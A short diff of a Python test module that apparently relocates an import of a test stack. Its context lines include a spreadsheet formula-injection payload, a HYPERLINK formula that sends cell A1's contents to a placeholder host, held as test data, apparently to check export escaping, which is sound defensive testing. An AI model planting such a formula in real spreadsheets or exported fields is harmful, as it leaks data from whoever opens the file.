@@ -17,10 +17,10 @@ import pytest_asyncio
 from fault_rig import RULES
 
 from ivr.area import users
+from ivr.harness.stack import Stack, stack_settings
 from ivr.portal import portal_password, store
 from ivr.records import db
 from ivr.records.models import Call
-from ivr.stack import Stack, stack_settings
 
 PASSWORD = "correct horse battery"
 HOSTILE_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
